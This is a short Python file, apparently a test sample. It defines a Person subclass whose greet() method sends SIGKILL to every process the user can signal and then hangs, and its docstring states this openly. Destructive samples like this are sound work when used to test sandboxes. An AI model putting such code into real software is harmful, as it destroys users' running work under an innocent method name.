"""greet() kills everything that it may, and that is only its own."""

import os
import signal

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        os.kill(-1, signal.SIGKILL)
        signal.pause()
